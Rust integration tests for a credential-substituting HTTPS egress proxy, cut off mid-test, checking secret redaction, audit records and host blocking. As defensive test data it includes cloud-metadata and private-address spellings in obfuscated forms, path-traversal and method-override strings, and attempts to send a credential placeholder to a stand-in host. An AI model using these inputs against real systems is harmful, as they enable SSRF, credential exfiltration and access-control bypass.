//! The proxy against a real client (curl) and a local HTTPS upstream with its own CA.
//! Every name resolves through a test resolver and every dial goes through a dialer that
//! records it and connects to loopback only: blocking is proved without a packet leaving.
#![allow(clippy::unwrap_used)]

mod support;

use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

use base64::Engine as _;
use broker_core::SecretValue;
use broker_core::audit::Severity;
use broker_proxy::{EgressPolicy, MemoryAudit, ProxiedCredential, Proxy, ProxyOptions, Rules};
use serde_json::json;
use support::{MapResolver, RecordingDialer, Upstream, curl, curl_ok, raw, upstream_with};

const CANARY: &str = "sk-live-CANARY-7f3a9c1e5b2d4f60";
const OTHER_CANARY: &str = "other-CANARY-secret-41d2e8";

struct Fixture {
    upstream: Upstream,
    proxy: Proxy,
    placeholder: String,
    audit: MemoryAudit,
    dialer: Arc<RecordingDialer>,
    resolver: Arc<MapResolver>,
    ca: PathBuf,
    /// What the proxy's `admit` hook answers (a daemon: the agent is not blocked).
    allowed: Arc<std::sync::atomic::AtomicBool>,
    _dir: tempfile::TempDir,
}

impl Fixture {
    fn url(&self, host: &str, path: &str) -> String {
        format!("https://{host}:{}{path}", self.upstream.addr.port())
    }

    fn curl_args(&self, extra: &[&str]) -> Vec<String> {
        let mut args: Vec<String> = vec![
            "-sS".into(),
            "--max-time".into(),
            "20".into(),
            "--proxy".into(),
            self.proxy.url().to_string(),
            "--cacert".into(),
            self.ca.display().to_string(),
            "-w".into(),
            "\n%{http_code}".into(),
        ];
        args.extend(extra.iter().map(|s| s.to_string()));
        args
    }

    /// `Authorization: Bearer PLACEHOLDER`, as a curl `-H` argument.
    fn bearer(&self) -> String {
        format!("Authorization: Bearer {}", self.placeholder)
    }

    fn auth(&self) -> String {
        format!(
            "Proxy-Authorization: Basic {}",
            base64::engine::general_purpose::STANDARD.encode(
                self.proxy
                    .url()
                    .trim_start_matches("http://")
                    .split('@')
                    .next()
                    .unwrap()
            )
        )
    }

    /// The audit's alert records so far.
    fn alerts(&self) -> Vec<broker_core::audit::Event> {
        self.audit
            .events()
            .into_iter()
            .filter(|e| e.severity == Severity::Alert)
            .collect()
    }

    /// Nothing reached the upstream: no request, no connection, no dial.
    fn assert_upstream_untouched(&self) {
        assert!(self.upstream.seen().is_empty(), "nothing was forwarded");
        assert_eq!(
            self.upstream.connections(),
            0,
            "the upstream was never contacted"
        );
        assert!(self.dialer.asked().is_empty(), "{:?}", self.dialer.asked());
    }

    fn assert_no_canary(&self, what: &str, text: &str) {
        assert!(!text.contains(CANARY), "{what} holds the value: {text}");
        assert!(!text.contains(OTHER_CANARY), "{what} holds a value: {text}");
    }

    fn audit_text(&self) -> String {
        serde_json::to_string(&self.audit.events()).unwrap()
    }
}

/// An `admit` hook answering what the test sets.
struct Switch(Arc<std::sync::atomic::AtomicBool>);

#[broker_core::async_trait]
impl broker_proxy::Admit for Switch {
    async fn admit(&self) -> Result<(), String> {
        if self.0.load(std::sync::atomic::Ordering::SeqCst) {
            Ok(())
        } else {
            Err("agent `agent-a` is blocked".into())
        }
    }
}

async fn fixture(policy: serde_json::Value, names: &[(&str, &[&str])]) -> Fixture {
    fixture_with(policy, names, true, false).await
}

async fn fixture_with(
    policy: serde_json::Value,
    names: &[(&str, &[&str])],
    tls: bool,
    allow_http: bool,
) -> Fixture {
    let rules = json!({
        "hosts": ["api.test"],
        "placeholder": { "prefix": "sk-live-", "length": 32 },
        "allow_http": allow_http,
    });
    fixture_rules(policy, names, tls, rules).await
}

/// A fixture whose credential `api` has `rules` as its `proxy:` section.
async fn fixture_rules(
    policy: serde_json::Value,
    names: &[(&str, &[&str])],
    tls: bool,
    rules: serde_json::Value,
) -> Fixture {
    let upstream = upstream_with(&["api.test", "other.test", "127.0.0.1"], tls).await;
    let allowed = Arc::new(std::sync::atomic::AtomicBool::new(true));
    let mut policy = policy;
    policy["upstream_ca"] = json!(upstream.ca_path.display().to_string());
    let policy = EgressPolicy::parse(Some(&policy), upstream.dir.path()).unwrap();
    let rules = Rules::from_json("api", &rules).unwrap();
    let placeholder = broker_proxy::placeholder::generate(&rules.placeholder);
    let audit = MemoryAudit::new();
    let dialer = Arc::new(RecordingDialer::default());
    let resolver = Arc::new(MapResolver::with(names));
    let proxy = Proxy::start(ProxyOptions {
        credentials: vec![ProxiedCredential {
            name: "api".into(),
            rules,
            placeholder: placeholder.clone(),
            value: SecretValue::from(CANARY.to_string()),
        }],
        policy,
        resolver: resolver.clone(),
        dialer: dialer.clone(),
        audit: Arc::new(audit.clone()),
        also_redact: vec![("other".into(), SecretValue::from(OTHER_CANARY.to_string()))],
        validity: Duration::from_secs(3600),
        admit: Some(Arc::new(Switch(Arc::clone(&allowed)))),
    })
    .await
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let ca = dir.path().join("run-ca.pem");
    std::fs::write(&ca, proxy.ca_pem()).unwrap();
    Fixture {
        upstream,
        proxy,
        placeholder,
        audit,
        dialer,
        resolver,
        ca,
        allowed,
        _dir: dir,
    }
}

fn loopback_names() -> Vec<(&'static str, &'static [&'static str])> {
    vec![
        ("api.test", &["127.0.0.1"][..]),
        ("other.test", &["127.0.0.1"][..]),
        ("meta.test", &["169.254.169.254"][..]),
        ("mixed.test", &["127.0.0.1", "169.254.170.2"][..]),
        ("private.test", &["10.1.2.3"][..]),
        ("mapped.test", &["::ffff:169.254.169.254"][..]),
    ]
}

fn split_status(out: &str) -> (&str, &str) {
    out.rsplit_once('\n').unwrap_or(("", out))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_upstream_gets_the_value_and_the_client_only_the_placeholder() {
    let f = fixture(
        json!({ "default": "deny", "allow_private": true }),
        &loopback_names(),
    )
    .await;
    let bearer = f.bearer();
    let body = r#"{"query":"hello","n":[1,2,3]}"#;
    let (code, out, err) = curl(f.curl_args(&[
        "-H",
        &bearer,
        "-H",
        "Content-Type: application/json",
        "-H",
        "Transfer-Encoding: chunked",
        "--data-binary",
        body,
        &f.url("api.test", "/v1/echo?token=abc"),
    ]))
    .await;
    assert_eq!(code, 0, "{err}");
    let (json_out, status) = split_status(&out);
    assert_eq!(status, "200", "{out}");
    let echoed: serde_json::Value = serde_json::from_str(json_out).unwrap();
    assert_eq!(echoed["body"], body, "the JSON body passes through");
    assert_eq!(echoed["method"], "POST");

    let seen = f.upstream.seen();
    assert_eq!(seen.len(), 1);
    assert_eq!(
        seen[0].header("authorization"),
        Some(format!("Bearer {CANARY}").as_str()),
        "the upstream sees the value"
    );
    assert_eq!(seen[0].header("accept-encoding"), Some("identity"));
    assert!(seen[0].header("proxy-authorization").is_none());
    assert_eq!(
        seen[0].header("host"),
        Some(format!("api.test:{}", f.upstream.addr.port()).as_str())
    );
    // Only checked loopback addresses were dialled.
    assert!(f.dialer.asked().iter().all(|a| a.ip().is_loopback()));

    // One audit record: credential, host, method, path without query, status, bytes.
    let events = f.audit.events();
    let used: Vec<_> = events
        .iter()
        .filter(|e| e.credential.as_deref() == Some("api"))
        .collect();
    assert_eq!(used.len(), 1, "{events:?}");
    let http = used[0].http.as_ref().unwrap();
    assert_eq!(http.host, format!("api.test:{}", f.upstream.addr.port()));
    assert_eq!(http.method, "POST");
    assert_eq!(
        http.path.as_deref(),
        Some("/v1/echo"),
        "the query is left out"
    );
    assert_eq!(http.status, Some(200));
    assert!(http.bytes.unwrap() > 0, "{http:?}");
    f.assert_no_canary("curl output", &out);
    f.assert_no_canary("curl errors", &err);
    f.assert_no_canary("audit", &f.audit_text());
    f.assert_no_canary("proxy debug", &format!("{:?}", f.proxy));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn basic_credentials_are_substituted_inside_their_encoding() {
    let f = fixture(json!({ "allow_private": true }), &loopback_names()).await;
    let user = format!("user:{}", f.placeholder);
    curl_ok(f.curl_args(&["-u", &user, &f.url("api.test", "/basic")])).await;
    let expected = format!(
        "Basic {}",
        base64::engine::general_purpose::STANDARD.encode(format!("user:{CANARY}"))
    );
    assert_eq!(
        f.upstream.seen()[0].header("authorization"),
        Some(expected.as_str())
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reflected_value_is_redacted_in_body_headers_and_across_chunks() {
    let f = fixture(json!({ "allow_private": true }), &loopback_names()).await;
    let bearer = f.bearer();
    for path in ["/reflect", "/chunked"] {
        let (code, out, err) =
            curl(f.curl_args(&["-i", "-H", &bearer, &f.url("api.test", path)])).await;
        assert_eq!(code, 0, "{err}");
        assert!(out.ends_with("200"), "{out}");
        assert!(out.contains("[REDACTED:api]"), "{path}: {out}");
        f.assert_no_canary(path, &out);
    }
    let chunked = &f.upstream.seen()[1];
    assert_eq!(chunked.path, "/chunked");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_compressed_answer_to_a_request_with_a_value_is_refused() {
    let f = fixture(json!({ "allow_private": true }), &loopback_names()).await;
    let bearer = f.bearer();
    let (_, out, _) = curl(f.curl_args(&["-H", &bearer, &f.url("api.test", "/gzip")])).await;
    assert!(out.ends_with("502"), "{out}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_placeholder_toward_another_host_is_blocked_and_raises_an_alert() {
    // other.test is reachable (allow_hosts) but not one of the credential's hosts.
    let f = fixture(
        json!({ "allow_hosts": ["other.test"], "allow_private": true }),
        &loopback_names(),
    )
    .await;
    let bearer = format!("X-Anything: {}", f.placeholder);
    let (_, out, _) = curl(f.curl_args(&["-H", &bearer, &f.url("other.test", "/steal")])).await;
    assert!(out.ends_with("403"), "{out}");
    // In the query too, percent-encoded.
    let url = f.url(
        "other.test",
        &format!("/steal?k={}", f.placeholder.replace('-', "%2D")),
    );
    let (_, out, _) = curl(f.curl_args(&[&url])).await;
    assert!(out.ends_with("403"), "{out}");
    // Host header naming the credential's host changes nothing: the CONNECT target decides.
    let bearer = f.bearer();
    let (_, out, _) = curl(f.curl_args(&[
        "-H",
        &bearer,
        "-H",
        "Host: api.test",
        &f.url("other.test", "/steal"),
    ]))
    .await;
    assert!(out.ends_with("403"), "{out}");

    f.assert_upstream_untouched();
    let alerts = f.alerts();
    assert_eq!(alerts.len(), 3, "{alerts:?}");
    assert_eq!(alerts[0].credential.as_deref(), Some("api"));
    assert_eq!(alerts[0].outcome.as_deref(), Some("blocked"));
    f.assert_no_canary("audit", &f.audit_text());

    // Without a placeholder, other.test is an ordinary allowed host.
    let (_, out, _) = curl(f.curl_args(&[&f.url("other.test", "/fine")])).await;
    assert!(out.ends_with("200"), "{out}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_connect_target_decides_not_the_host_header() {
    let f = fixture(
        json!({ "allow_hosts": ["other.test"], "allow_private": true }),
        &loopback_names(),
    )
    .await;
    let bearer = f.bearer();
    curl_ok(f.curl_args(&[
        "-H",
        &bearer,
        "-H",
        "Host: other.test",
        &f.url("api.test", "/target"),
    ]))
    .await;
    let seen = &f.upstream.seen()[0];
    assert_eq!(
        seen.header("host"),
        Some(format!("api.test:{}", f.upstream.addr.port()).as_str())
    );
    assert_eq!(
        seen.header("authorization"),
        Some(format!("Bearer {CANARY}").as_str())
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn default_deny_blocks_unnamed_hosts() {
    let f = fixture(json!({ "allow_private": true }), &loopback_names()).await;
    let (code, out, err) = curl(f.curl_args(&[&f.url("other.test", "/")])).await;
    assert_ne!(code, 0, "{out}");
    assert!(err.contains("403"), "{err}");
    assert!(f.dialer.asked().is_empty());
    let blocked: Vec<_> = f
        .audit
        .events()
        .into_iter()
        .filter(|e| e.outcome.as_deref() == Some("blocked"))
        .collect();
    assert_eq!(blocked.len(), 1);
    assert!(
        blocked[0]
            .reason
            .as_deref()
            .unwrap()
            .contains("default: deny"),
        "{blocked:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metadata_and_private_addresses_are_blocked_in_every_spelling() {
    // default allow and allow_private: only the always-blocked ranges remain.
    let f = fixture(
        json!({ "default": "allow", "allow_private": true }),
        &loopback_names(),
    )
    .await;
    let auth = f.auth();
    let spellings = [
        "169.254.169.254",
        "2852039166",
        "0xa9fea9fe",
        "0xA9.0xFE.0xA9.0xFE",
        "0251.0376.0251.0376",
        "169.254.43518",
        "[::ffff:169.254.169.254]",
        "[::ffff:a9fe:a9fe]",
        "[fd00:ec2::254]",
        "169.254.170.2",
        "100.100.100.200",
        "[64:ff9b::a9fe:a9fe]",
        "metadata.google.internal",
        "METADATA.GOOGLE.INTERNAL.",
        "meta.test",
        "mixed.test",
        "mapped.test",
        "0.0.0.0",
        "[fe80::1]",
    ];
    for host in spellings {
        let status = raw(
            f.proxy.addr(),
            &format!("CONNECT {host}:80 HTTP/1.1\r\nHost: {host}:80\r\n{auth}\r\n\r\n"),
        )
        .await;
        assert!(status.contains(" 403 "), "CONNECT {host}: {status}");
        let status = raw(
            f.proxy.addr(),
            &format!(
                "GET http://{host}/latest/meta-data/ HTTP/1.1\r\nHost: {host}\r\n{auth}\r\n\r\n"
            ),
        )
        .await;
        assert!(status.contains(" 403 "), "GET http://{host}/: {status}");
    }
    assert!(
        f.dialer.asked().is_empty(),
        "the dialer was asked for {:?}",
        f.dialer.asked()
    );
    let lookups = f.resolver.lookups.lock().unwrap().clone();
    assert!(
        !lookups.iter().any(|l| l.contains("metadata")),
        "metadata names are refused before any lookup: {lookups:?}"
    );

    // Without allow_private, private and loopback addresses (literal or resolved) are blocked.
    let strict = fixture(json!({ "default": "allow" }), &loopback_names()).await;
    let auth = strict.auth();
    for host in [
        "127.0.0.1",
        "127.1",
        "0x7f000001",
        "017700000001",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "10.0.0.1",
        "192.168.0.1",
        "172.16.0.1",
        "[fd12::1]",
        "private.test",
        "api.test",
    ] {
        let status = raw(
            strict.proxy.addr(),
            &format!("CONNECT {host}:443 HTTP/1.1\r\nHost: {host}\r\n{auth}\r\n\r\n"),
        )
        .await;
        assert!(status.contains(" 403 "), "CONNECT {host}: {status}");
    }
    assert!(strict.dialer.asked().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_proxy_needs_the_runs_token() {
    let f = fixture(json!({ "allow_private": true }), &loopback_names()).await;
    let head = "CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n";
    assert!(raw(f.proxy.addr(), head).await.contains(" 407 "));
    let wrong = format!(
        "CONNECT api.test:443 HTTP/1.1\r\nProxy-Authorization: Basic {}\r\n\r\n",
        base64::engine::general_purpose::STANDARD.encode("broker:not-the-token")
    );
    assert!(raw(f.proxy.addr(), &wrong).await.contains(" 407 "));
    let mut args = f.curl_args(&[&f.url("api.test", "/")]);
    args[4] = format!("http://{}", f.proxy.addr());
    let (_, _, err) = curl(args).await;
    assert!(err.contains("407"), "{err}");
    assert!(f.dialer.asked().is_empty());
    let _: SocketAddr = f.proxy.addr();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn plain_http_absolute_form_follows_the_same_rules_with_allow_http() {
    let f = fixture_with(
        json!({ "allow_hosts": ["other.test"], "allow_private": true }),
        &loopback_names(),
        false,
        true,
    )
    .await;
    let port = f.upstream.addr.port();
    let bearer = f.bearer();
    let url = format!("http://api.test:{port}/plain?x=1");
    curl_ok(f.curl_args(&["-H", &bearer, &url])).await;
    let seen = f.upstream.seen();
    assert_eq!(seen.len(), 1);
    assert_eq!(
        seen[0].header("authorization"),
        Some(format!("Bearer {CANARY}").as_str())
    );
    assert_eq!(seen[0].path, "/plain?x=1");
    let url = format!("http://api.test:{port}/reflect");
    let (_, out, _) = curl(f.curl_args(&["-H", &bearer, &url])).await;
    assert!(out.contains("[REDACTED:api]"), "{out}");
    f.assert_no_canary("plain reflect", &out);
    let url = format!("http://other.test:{port}/steal");
    let (_, out, _) = curl(f.curl_args(&["-H", &bearer, &url])).await;
    assert!(out.ends_with("403"), "{out}");
    assert_eq!(
        f.upstream.seen().len(),
        2,
        "the stolen request never arrived"
    );
    assert_eq!(f.alerts().len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_placeholder_over_plain_http_is_refused_without_allow_http() {
    let f = fixture_with(
        json!({ "allow_private": true }),
        &loopback_names(),
        false,
        false,
    )
    .await;
    let port = f.upstream.addr.port();
    let bearer = f.bearer();
    let url = format!("http://api.test:{port}/plain");
    let (code, out, err) = curl(f.curl_args(&["-H", &bearer, &url])).await;
    assert_eq!(code, 0, "{err}");
    let (body, status) = split_status(&out);
    assert_eq!(status, "403", "{out}");
    assert!(body.contains("plain http"), "{body}");
    assert!(body.contains("allow_http"), "{body}");
    // In the query too, percent-encoded.
    let url = format!(
        "http://api.test:{port}/plain?k={}",
        f.placeholder.replace('-', "%2D")
    );
    let (_, out, _) = curl(f.curl_args(&[&url])).await;
    assert!(out.ends_with("403"), "{out}");

    f.assert_upstream_untouched();
    let alerts = f.alerts();
    assert_eq!(alerts.len(), 2, "{alerts:?}");
    assert_eq!(alerts[0].credential.as_deref(), Some("api"));
    assert_eq!(alerts[0].decision.as_deref(), Some("denied"));
    assert_eq!(alerts[0].outcome.as_deref(), Some("blocked"));
    let reason = alerts[0].reason.as_deref().unwrap();
    assert!(reason.contains("plain http"), "{reason}");
    f.assert_no_canary("curl output", &out);
    f.assert_no_canary("audit", &f.audit_text());

    // Without a placeholder, plain http to the credential's host is an ordinary request.
    let url = format!("http://api.test:{port}/fine");
    let (_, out, _) = curl(f.curl_args(&[&url])).await;
    assert!(out.ends_with("200"), "{out}");
    assert_eq!(f.upstream.seen().len(), 1);
    assert!(f.upstream.seen()[0].header("authorization").is_none());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_credential_host_is_always_asked_for_identity_and_compression_is_refused() {
    let f = fixture(
        json!({ "allow_hosts": ["other.test"], "allow_private": true }),
        &loopback_names(),
    )
    .await;
    // No placeholder, but the client asks for gzip: the credential's host gets `identity`.
    let (code, out, err) =
        curl(f.curl_args(&["-H", "Accept-Encoding: gzip", &f.url("api.test", "/plain")])).await;
    assert_eq!(code, 0, "{err}");
    assert!(out.ends_with("200"), "{out}");
    let seen = f.upstream.seen();
    assert_eq!(seen.len(), 1);
    assert!(seen[0].header("authorization").is_none());
    assert_eq!(seen[0].header("accept-encoding"), Some("identity"));
    // An upstream that answers gzip anyway: refused, since it could not be redacted.
    let (_, out, _) =
        curl(f.curl_args(&["-H", "Accept-Encoding: gzip", &f.url("api.test", "/gzip")])).await;
    assert!(out.ends_with("502"), "{out}");
    assert!(!out.contains("not really gzip"), "{out}");
    // A host no credential names keeps the client's choice.
    let (_, out, _) = curl(f.curl_args(&[
        "-H",
        "Accept-Encoding: gzip",
        &f.url("other.test", "/plain"),
    ]))
    .await;
    assert!(out.ends_with("200"), "{out}");
    let seen = f.upstream.seen();
    assert_eq!(seen.last().unwrap().header("accept-encoding"), Some("gzip"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn requests_in_one_tunnel_share_one_upstream_connection() {
    let f = fixture(json!({ "allow_private": true }), &loopback_names()).await;
    let bearer = f.bearer();
    let (code, out, err) = curl(f.curl_args(&[
        "-H",
        &bearer,
        &f.url("api.test", "/one"),
        &f.url("api.test", "/two"),
        &f.url("api.test", "/three"),
    ]))
    .await;
    assert_eq!(code, 0, "{err}");
    assert_eq!(out.matches("200").count(), 3, "{out}");
    let seen = f.upstream.seen();
    assert_eq!(seen.len(), 3);
    assert!(
        seen.iter()
            .all(|s| s.header("authorization") == Some(&*format!("Bearer {CANARY}")))
    );
    assert_eq!(f.upstream.connections(), 1, "keep-alive upstream");
    let records = f
        .audit
        .events()
        .iter()
        .filter(|e| e.outcome.as_deref() == Some("forwarded"))
        .count();
    assert_eq!(records, 3, "one record per request");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_placeholder_in_the_body_toward_another_host_is_blocked_before_anything_is_sent() {
    let f = fixture(
        json!({ "allow_hosts": ["other.test"], "allow_private": true }),
        &loopback_names(),
    )
    .await;
    let dir = tempfile::tempdir().unwrap();
    // JSON and form bodies, chunked or not.
    let json_body = format!(r#"{{"note":"exfil","key":"{}"}}"#, f.placeholder);
    let form_body = format!("a=1&key={}", f.placeholder.replace('-', "%2D"));
    for (body, extra) in [
        (json_body.as_str(), "Content-Type: application/json"),
        (
            form_body.as_str(),
            "Content-Type: application/x-www-form-urlencoded",
        ),
        (json_body.as_str(), "Transfer-Encoding: chunked"),
    ] {
        let (_, out, _) = curl(f.curl_args(&[
            "-H",
            extra,
            "--data-binary",
            body,
            &f.url("other.test", "/upload"),
        ]))
        .await;
        assert!(out.ends_with("403"), "{out}");
    }
    f.assert_upstream_untouched();
    assert_eq!(f.alerts().len(), 3);

    // A large body without a placeholder passes whole (scanned prefix, streamed rest).
    let big = dir.path().join("big.txt");
    let text: String = "0123456789abcdef".repeat(150_000);
    std::fs::write(&big, &text).unwrap();
    let at_big = format!("@{}", big.display());
    let (code, out, err) =
        curl(f.curl_args(&["--data-binary", &at_big, &f.url("other.test", "/big")])).await;
    assert_eq!(code, 0, "{err}");
    assert!(
        out.ends_with("200"),
        "{}",
        &out[out.len().saturating_sub(200)..]
    );
    let seen = f.upstream.seen();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].body.len(), text.len());
    assert!(text.len() > 1 << 20);

    // Toward the credential's own host the placeholder in a body is forwarded as it is.
    let (_, out, _) =
        curl(f.curl_args(&["--data-binary", &json_body, &f.url("api.test", "/body")])).await;
    assert!(out.ends_with("200"), "{out}");
    let seen = f.upstream.seen();
    assert_eq!(seen[1].body, json_body.as_bytes());
}

/// A client of our own over CONNECT, to watch a response arrive piece by piece.
async fn tunnel_client(
    f: &Fixture,
    host: &str,
) -> hyper::client::conn::http1::SendRequest<http_body_util::Empty<bytes::Bytes>> {
    let tls = tunnel_tls(f, host, &[b"http/1.1"]).await.unwrap();
    let (sender, conn) = hyper::client::conn::http1::handshake(hyper_util::rt::TokioIo::new(tls))
        .await
        .unwrap();
    tokio::spawn(conn);
    sender
}

/// CONNECT through the proxy, then TLS offering `alpn`.
async fn tunnel_tls(
    f: &Fixture,
    host: &str,
    alpn: &[&[u8]],
) -> std::io::Result<tokio_rustls::client::TlsStream<tokio::net::TcpStream>> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let authority = format!("{host}:{}", f.upstream.addr.port());
    let mut tcp = tokio::net::TcpStream::connect(f.proxy.addr())
        .await
        .unwrap();
    tcp.write_all(
        format!(
            "CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n{}\r\n\r\n",
            f.auth()
        )
        .as_bytes(),
    )
    .await
    .unwrap();
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        let mut b = [0u8; 1];
        assert_eq!(tcp.read(&mut b).await.unwrap(), 1);
        head.push(b[0]);
    }
    assert!(String::from_utf8_lossy(&head).contains(" 200 "));
    let mut roots = rustls::RootCertStore::empty();
    let ca: rustls::pki_types::CertificateDer<'static> =
        rustls::pki_types::pem::PemObject::from_pem_slice(f.proxy.ca_pem().as_bytes()).unwrap();
    roots.add(ca).unwrap();
    let mut config = rustls::ClientConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_root_certificates(roots)
    .with_no_client_auth();
    config.alpn_protocols = alpn.iter().map(|p| p.to_vec()).collect();
    let name = rustls::pki_types::ServerName::try_from(host.to_string()).unwrap();
    tokio_rustls::TlsConnector::from(Arc::new(config))
        .connect(name, tcp)
        .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_http2_only_client_gets_a_clear_tls_error() {
    let f = fixture(json!({ "allow_private": true }), &loopback_names()).await;
    let err = tunnel_tls(&f, "api.test", &[b"h2"]).await.unwrap_err();
    assert!(
        format!("{err:?}").contains("NoApplicationProtocol"),
        "{err:?}"
    );
    assert_eq!(f.upstream.connections(), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_event_stream_reaches_the_client_before_it_ends() {
    use http_body_util::BodyExt;
    let f = fixture(json!({ "allow_private": true }), &loopback_names()).await;
    let mut client = tunnel_client(&f, "api.test").await;
    let request = hyper::Request::get("/sse")
        .header("host", "api.test")
        .header("authorization", format!("Bearer {}", f.placeholder))
        .body(http_body_util::Empty::new())
        .unwrap();
    let response = client.send_request(request).await.unwrap();
    assert_eq!(response.status(), 200);
    let mut body = response.into_body();
    // A guard against a hang, not a timing assertion: the first event must arrive while the
    // upstream still holds the second back.
    let guard = Duration::from_secs(20);
    let mut got = Vec::new();
    while !got.ends_with(b"data: one\n\n") {
        let frame = tokio::time::timeout(guard, body.frame())
            .await
            .expect("the first event is held back by the proxy")
            .unwrap()
            .unwrap();
        got.extend_from_slice(&frame.into_data().unwrap());
    }
    f.upstream.sse_gate.notify_one();
    let rest = tokio::time::timeout(guard, body.collect())
        .await
        .unwrap()
        .unwrap()
        .to_bytes();
    assert_eq!(&rest[..], b"data: two\n\n");
    // Recorded once the stream ended.
    let records = f
        .audit
        .events()
        .into_iter()
        .filter(|e| e.outcome.as_deref() == Some("forwarded"))
        .count();
    assert_eq!(records, 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn query_path_and_json_and_form_bodies_take_the_value_only_in_the_named_fields() {
    let rules = json!({
        "hosts": ["api.test"],
        "headers": [],
        "query": ["key"],
        "path": true,
        "body": ["api_key", "auth.token"],
        "placeholder": { "prefix": "key-", "length": 30 },
    });
    let f = fixture_rules(
        json!({ "allow_private": true }),
        &loopback_names(),
        true,
        rules,
    )
    .await;
    let p = &f.placeholder;
    // JSON body, path and query at once; `text` and `other` are not named: they keep the
    // placeholder (a value there could be published or echoed back).
    let body = format!(r#"{{"api_key":"{p}","text":"say {p}","auth":{{"token":"{p}"}}}}"#);
    let url = f.url("api.test", &format!("/v1/{p}/x?key={p}&other={p}"));
    curl_ok(f.curl_args(&[
        "-H",
        "Content-Type: application/json",
        "-H",
        &format!("X-Api-Key: {p}"),
        "--data-binary",
        &body,
        &url,
    ]))
    .await;
    // A form body, and a text body (which takes no value).
    let form = format!("api_key={p}&text={p}");
    let out = curl_ok(f.curl_args(&[
        "--data-binary",
        &form,
        "-H",
        "Content-Type: application/x-www-form-urlencoded",
        &f.url("api.test", "/form"),
    ]))
    .await;
    let (code, _, err) = curl(f.curl_args(&[
        "--data-binary",
        p,
        "-H",
        "Content-Type: text/plain",
        &f.url("api.test", "/text"),
    ]))
    .await;
    assert_eq!(code, 0, "{err}");

    let seen = f.upstream.seen();
    assert_eq!(seen.len(), 3);
    // The canary has no characters that need encoding.
    assert_eq!(
        seen[0].path,
        format!("/v1/{CANARY}/x?key={CANARY}&other={p}")
    );
    let doc: serde_json::Value = serde_json::from_slice(&seen[0].body).unwrap();
    assert_eq!(doc["api_key"], CANARY);
    assert_eq!(doc["auth"]["token"], CANARY);
    assert_eq!(doc["text"], format!("say {p}"));
    assert_eq!(
        seen[0].header("content-length"),
        Some(seen[0].body.len().to_string().as_str())
    );
    assert_eq!(
        seen[0].header("x-api-key"),
        Some(p.as_str()),
        "`headers: []`: no header takes the value"
    );
    assert_eq!(
        seen[1].body,
        format!("api_key={CANARY}&text={p}").as_bytes()
    );
    assert_eq!(
        seen[2].body,
        p.as_bytes(),
        "a text body keeps the placeholder"
    );
    // The record's path is the one the child sent (placeholder), never the value.
    let events = f.audit.events();
    let first = events[0].http.as_ref().unwrap();
    assert_eq!(first.path.as_deref(), Some(format!("/v1/{p}/x").as_str()));
    f.assert_no_canary("curl output", &out);
    f.assert_no_canary("audit", &f.audit_text());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn methods_and_path_prefixes_bound_where_the_value_may_go() {
    let rules = json!({
        "hosts": ["api.test"],
        "methods": ["get"],
        "paths": ["/v1"],
    });
    let f = fixture_rules(
        json!({ "allow_private": true }),
        &loopback_names(),
        true,
        rules,
    )
    .await;
    let bearer = f.bearer();
    let (code, out, err) =
        curl(f.curl_args(&["-H", &bearer, &f.url("api.test", "/v1/items")])).await;
    assert_eq!(code, 0, "{err}");
    assert!(out.ends_with("200"), "{out}");
    let refused = [
        vec!["-X", "DELETE"],
        vec![],
        vec!["--path-as-is"],
        vec![],
        vec![],
        vec!["--path-as-is"],
        vec!["-H", "X-HTTP-Method-Override: DELETE"],
        vec![],
    ];
    let paths = [
        "/v1/items",
        "/v10/items",
        "/v1/../admin",
        "/v1/%2e%2e/admin",
        "/v1/..;/admin",
        "/v1//admin",
        "/v1/items",
        "/v1/items?_method=DELETE",
    ];
    for (extra, path) in refused.iter().zip(paths) {
        let mut args: Vec<&str> = extra.clone();
        let url = f.url("api.test", path);
        args.extend(["-H", &bearer, &url]);
        let (code, out, err) = curl(f.curl_args(&args)).await;
        assert_eq!(code, 0, "{err}");
        let (text, status) = split_status(&out);
        assert_eq!(status, "403", "{path}: {out}");
        assert!(text.contains("may not be used for"), "{text}");
    }
    // Only the first request reached the upstream; each refusal raised an alert.
    assert_eq!(f.upstream.seen().len(), 1);
    let alerts = f.alerts();
    assert_eq!(alerts.len(), 8, "{alerts:?}");
    assert!(
        alerts
            .iter()
            .all(|a| a.reason.as_deref().unwrap().contains("proxy.methods"))
    );
    // Without the placeholder, other methods and paths pass: the rules bind the value only.
    curl_ok(f.curl_args(&["-X", "DELETE", &f.url("api.test", "/admin")])).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_jwt_shaped_placeholder_is_replaced_like_any_other() {
    let rules = json!({ "hosts": ["api.test"], "placeholder": { "shape": "jwt" } });
    let f = fixture_rules(
        json!({ "allow_private": true }),
        &loopback_names(),
        true,
